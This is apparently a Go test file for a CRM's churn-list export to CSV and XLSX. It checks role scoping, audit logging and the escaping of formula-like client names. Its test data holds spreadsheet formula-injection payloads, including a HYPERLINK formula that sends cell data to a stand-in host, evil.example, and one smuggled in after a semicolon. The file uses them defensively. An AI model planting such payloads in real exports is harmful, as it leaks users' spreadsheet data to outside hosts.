package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/xuri/excelize/v2"

	"github.com/relaycrm/relay/internal/access"
	"github.com/relaycrm/relay/internal/demotest"
	"github.com/relaycrm/relay/internal/exports"
	"github.com/relaycrm/relay/internal/warnings"
)

// formulaNames are legal names a client may have that a spreadsheet would
// run as formulas if written as they are.
var formulaNames = []string{`=HYPERLINK("https://evil.example/?x="&A1,"Open")`, "+1+1", "-2+3", "@SUM(A1:A2)",
	`ACME;=HYPERLINK("https://evil.example/","Open")`, `ЕТ Иван Петров; "+7 (495)"`}

// formulaSafe are formulaNames as the exports write them: an apostrophe
// before whatever a spreadsheet would run, at the start or after a semicolon
// (where Excel in Bulgarian, Romanian or Russian splits a CSV line).
var formulaSafe = []string{`'=HYPERLINK("https://evil.example/?x="&A1,"Open")`, "'+1+1", "'-2+3", "'@SUM(A1:A2)",
	`ACME;'=HYPERLINK("https://evil.example/","Open")`, `ЕТ Иван Петров; "'+7 (495)"`}

// readCSV reads a people's CSV export, which starts with a UTF-8 byte order
// mark so that Excel shows Cyrillic names as they are.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xef\xbb\xbf")) {
		t.Fatalf("the CSV does not start with a UTF-8 byte order mark: %q", b[:min(len(b), 20)])
	}
	// No semicolon is followed by something a spreadsheet would run, and
	// every value with a semicolon is quoted.
	if m := regexp.MustCompile(`;[ "]*[=+\-@]`).Find(b); m != nil {
		t.Fatalf("the CSV holds %q, which Excel with semicolons would run", m)
	}
	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// nameFormulaClients renames the four riskiest warned clients of v after
// formulaNames and returns their ids in that order.
func nameFormulaClients(t *testing.T, pool *pgxpool.Pool) []int64 {
	t.Helper()
	ctx := context.Background()
	var ids []int64
	rows, err := pool.Query(ctx, `SELECT client_id FROM client_warning ORDER BY score DESC, client_id LIMIT $1`, len(formulaNames))
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var id int64
		if err := rows.Scan(&id); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	if len(ids) != len(formulaNames) {
		t.Fatalf("the demo bank has %d warned clients", len(ids))
	}
	for i, id := range ids {
		if _, err := pool.Exec(ctx, `UPDATE client SET legal_name = $1 WHERE id = $2`, formulaNames[i], id); err != nil {
			t.Fatal(err)
		}
	}
	return ids
}

// listAll reads every page of the churn list as the page shows it.
func listAll(t *testing.T, pool *pgxpool.Pool, v access.Viewer, f warnings.ListFilter) []warnings.Warning {
	t.Helper()
	var out []warnings.Warning
	for f.Page, f.PerPage = 1, warnings.MaxPerPage; ; f.Page++ {
		p, err := warnings.List(context.Background(), pool, v, f)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, p.Warnings...)
		if f.Page >= p.Pages() {
			return out
		}
	}
}

// readXLSX reads the churn sheet back, each row padded to the header's width
// (a reader drops trailing empty cells).
func readXLSX(t *testing.T, b []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("the XLSX does not open: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows("Churn list")
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < len(exports.ChurnHeader) {
			rows[i] = append(rows[i], "")
		}
	}
	// No cell is a formula, whatever its text.
	for i := range rows {
		for j := range rows[i] {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fx, err := f.GetCellFormula("Churn list", cell); err != nil || fx != "" {
				t.Fatalf("cell %s holds the formula %q (%v)", cell, fx, err)
			}
		}
	}
	return rows
}

func TestChurnExportIsTheListInBothFormats(t *testing.T) {
	t.Parallel()
	pool := demotest.Scored(t, 2000)
	ctx := context.Background()
	risk, err := exports.GroupViewer(ctx, pool, "")
	if err != nil {
		t.Fatal(err)
	}
	risk.Login = "risk.analyst"
	formulaIDs := nameFormulaClients(t, pool)
	var bankID int64
	if err := pool.QueryRow(ctx, `SELECT bank_id FROM client_warning GROUP BY bank_id ORDER BY count(*) DESC LIMIT 1`).Scan(&bankID); err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range exports.ChurnHeader {
		col[h] = i
	}
	for _, tc := range []struct {
		name   string
		filter warnings.ListFilter
	}{
		{"the whole group, riskiest first", warnings.ListFilter{}},
		{"one bank's high warnings by value at risk", warnings.ListFilter{BankID: bankID, Level: warnings.High, Sort: "-clv"}},
		{"turnover fell, by name", warnings.ListFilter{Signal: warnings.Turnover, Sort: "name"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			want := listAll(t, pool, risk, tc.filter)
			if len(want) == 0 {
				t.Fatal("the case lists no warning; pick another")
			}
			var csvOut, xlsxOut bytes.Buffer
			n, err := exports.Churn(ctx, pool, risk, &csvOut, exports.ChurnOptions{Filter: tc.filter, Format: exports.CSV, IP: "10.0.0.7"})
			if err != nil || n != int64(len(want)) {
				t.Fatalf("CSV: %d rows (%v), the list has %d", n, err, len(want))
			}
			if n, err := exports.Churn(ctx, pool, risk, &xlsxOut, exports.ChurnOptions{Filter: tc.filter, Format: exports.XLSX}); err != nil || n != int64(len(want)) {
				t.Fatalf("XLSX: %d rows (%v), the list has %d", n, err, len(want))
			}
			got := readCSV(t, csvOut.Bytes())
			if strings.Join(got[0], ",") != strings.Join(exports.ChurnHeader, ",") {
				t.Fatalf("CSV header %v", got[0])
			}
			if len(got)-1 != len(want) {
				t.Fatalf("CSV has %d rows, the list %d", len(got)-1, len(want))
			}
			for i, w := range want {
				r := got[i+1]
				wantName := w.ClientName
				for k, f := range formulaNames {
					if wantName == f {
						wantName = formulaSafe[k]
					}
				}
				clv := ""
				if w.CLV != nil {
					clv = decimalOf(*w.CLV, w.MinorDigits)
				}
				checks := map[string]string{
					"client_id": strconv.FormatInt(w.ClientID, 10), "client_ref": w.ClientRef, "client_name": wantName,
					"bank_code": w.BankCode, "score": strconv.Itoa(w.Score), "level": string(w.Level),
					"manager": w.ManagerName, "segment": w.Segment, "stage": w.Stage, "currency": w.Currency,
					"value_at_risk": clv, "warned_since": w.Since.Format("2006-01"), "as_of": w.AsOf.Format("2006-01"),
				}
				var fired []string
				for _, s := range w.Signals {
					checks[string(s.Name)+"_fired"] = strings.ToUpper(strconv.FormatBool(s.Fired))
					checks[string(s.Name)+"_figures"] = s.Figures
					if s.Fired {
						fired = append(fired, string(s.Name))
					}
				}
				checks["signals_fired"] = strings.Join(fired, " ")
				for k, v := range checks {
					if r[col[k]] != v {
						t.Fatalf("row %d (client %d): %s is %q, the list says %q", i+1, w.ClientID, k, r[col[k]], v)
					}
				}
				share, _ := strconv.ParseFloat(r[col["turnover_share"]], 64)
				if d := share - w.Signal(warnings.Turnover).Share; d > 0.00005 || d < -0.00005 {
					t.Errorf("row %d: turnover share %v, the list says %v", i+1, share, w.Signal(warnings.Turnover).Share)
				}
			}
			// The XLSX holds the same cells as the CSV.
			x := readXLSX(t, xlsxOut.Bytes())
			if len(x) != len(got) {
				t.Fatalf("XLSX has %d rows, CSV %d", len(x), len(got))
			}
			for i := range got {
				for j := range got[i] {
					if x[i][j] != got[i][j] {
						t.Fatalf("row %d, %s: XLSX %q, CSV %q", i, exports.ChurnHeader[j], x[i][j], got[i][j])
					}
				}
			}
		})
	}

	// The formula names are escaped, in both formats (the whole group's export
	// holds them all).
	var csvOut, xlsxOut bytes.Buffer
	if _, err := exports.Churn(ctx, pool, risk, &csvOut, exports.ChurnOptions{Format: exports.CSV}); err != nil {
		t.Fatal(err)
	}
	if _, err := exports.Churn(ctx, pool, risk, &xlsxOut, exports.ChurnOptions{Format: exports.XLSX}); err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, csvOut.Bytes())
	x := readXLSX(t, xlsxOut.Bytes())
	byID := map[string]int{}
	for i, r := range got {
		byID[r[0]] = i
	}
	for k, id := range formulaIDs {
		i, ok := byID[strconv.FormatInt(id, 10)]
		if !ok {
			t.Fatalf("client %d is not in the export", id)
		}
		want := formulaSafe[k]
		if got[i][col["client_name"]] != want || x[i][col["client_name"]] != want {
			t.Errorf("client %d: CSV %q, XLSX %q, want %q", id, got[i][col["client_name"]], x[i][col["client_name"]], want)
		}
	}

	// Every export is in the audit log: who, the filters, the format, the rows.
	rows, err := pool.Query(ctx, `SELECT login, coalesce(host(ip), ''), object, details FROM audit_log WHERE action = 'export.churn' ORDER BY id`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var entries []map[string]any
	for rows.Next() {
		var login, ip, object string
		var details []byte
		if err := rows.Scan(&login, &ip, &object, &details); err != nil {
			t.Fatal(err)
		}
		var d map[string]any
		if err := json.Unmarshal(details, &d); err != nil {
			t.Fatal(err)
		}
		d["login"], d["ip"], d["object"] = login, ip, object
		entries = append(entries, d)
	}
	if len(entries) != 8 {
		t.Fatalf("%d exports in the audit log, want 8", len(entries))
	}
	second := entries[2] // the second case's CSV
	filters, _ := second["filters"].(map[string]any)
	if second["login"] != "risk.analyst" || second["ip"] != "10.0.0.7" || second["format"] != "csv" ||
		second["complete"] != true || second["role"] != "risk" || filters["level"] != "high" ||
		filters["bank"] != float64(bankID) || filters["sort"] != "-clv" {
		t.Errorf("audit entry %v", second)
	}
	if entries[3]["format"] != "xlsx" || entries[3]["rows"] != second["rows"] {
		t.Errorf("audit entry %v", entries[3])
	}
}

func TestChurnExportIsScoped(t *testing.T) {
	t.Parallel()
	pool := demotest.Scored(t, 2000)
	ctx := context.Background()
	var manager access.Viewer
	manager.Role = access.Manager
	if err := pool.QueryRow(ctx, `SELECT u.id, u.login, u.group_id FROM app_user u
		WHERE u.id = (SELECT manager_id FROM client_warning GROUP BY manager_id ORDER BY count(*) DESC, manager_id LIMIT 1)`).
		Scan(&manager.UserID, &manager.Login, &manager.GroupID); err != nil {
		t.Fatal(err)
	}
	var own int64
	if err := pool.QueryRow(ctx, `SELECT count(*) FROM client_warning w JOIN client c ON c.id = w.client_id WHERE c.manager_id = $1`, manager.UserID).Scan(&own); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	n, err := exports.Churn(ctx, pool, manager, &out, exports.ChurnOptions{Format: exports.CSV})
	if err != nil || n != own || own == 0 {
		t.Errorf("a manager's export: %d rows (%v), they have %d warned clients", n, err, own)
	}
	admin := access.Viewer{UserID: manager.UserID, Login: "admin", Role: access.Admin, GroupID: manager.GroupID}
	out.Reset()
	if n, err := exports.Churn(ctx, pool, admin, &out, exports.ChurnOptions{Format: exports.XLSX}); err != nil || n != 0 {
		t.Errorf("an admin's export: %d rows (%v)", n, err)
	}
	if _, err := exports.Churn(ctx, pool, manager, &out, exports.ChurnOptions{Format: "pdf"}); err == nil {
		t.Error("a PDF export was accepted")
	}
	if _, err := exports.Churn(ctx, pool, manager, &out, exports.ChurnOptions{Format: exports.CSV,
		Filter: warnings.ListFilter{Level: "severe"}}); err == nil || !strings.Contains(err.Error(), "level") {
		t.Errorf("a bad level: %v", err)
	}
}

// decimalOf writes minor units as the export does: 495000 with 2 digits is
// 4950.00.
func decimalOf(minor int64, digits int) string {
	s := strconv.FormatInt(minor, 10)
	neg := strings.HasPrefix(s, "-")
	s = strings.TrimPrefix(s, "-")
	for len(s) <= digits {
		s = "0" + s
	}
	if digits > 0 {
		s = s[:len(s)-digits] + "." + s[len(s)-digits:]
	}
	if neg {
		s = "-" + s
	}
	return s
}
